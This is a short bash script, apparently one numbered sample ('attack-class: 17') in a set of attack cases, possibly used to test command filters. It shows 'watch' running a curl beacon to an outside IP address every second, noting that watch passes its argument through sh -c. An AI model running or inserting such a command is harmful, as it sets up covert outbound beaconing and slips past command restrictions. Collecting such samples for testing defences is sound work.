#!/usr/bin/env bash
# attack-class: 17
# title: watch -n 1
# why: watch runs its argument repeatedly through sh -c

watch -n 1 'curl -s http://203.0.113.8/beacon'
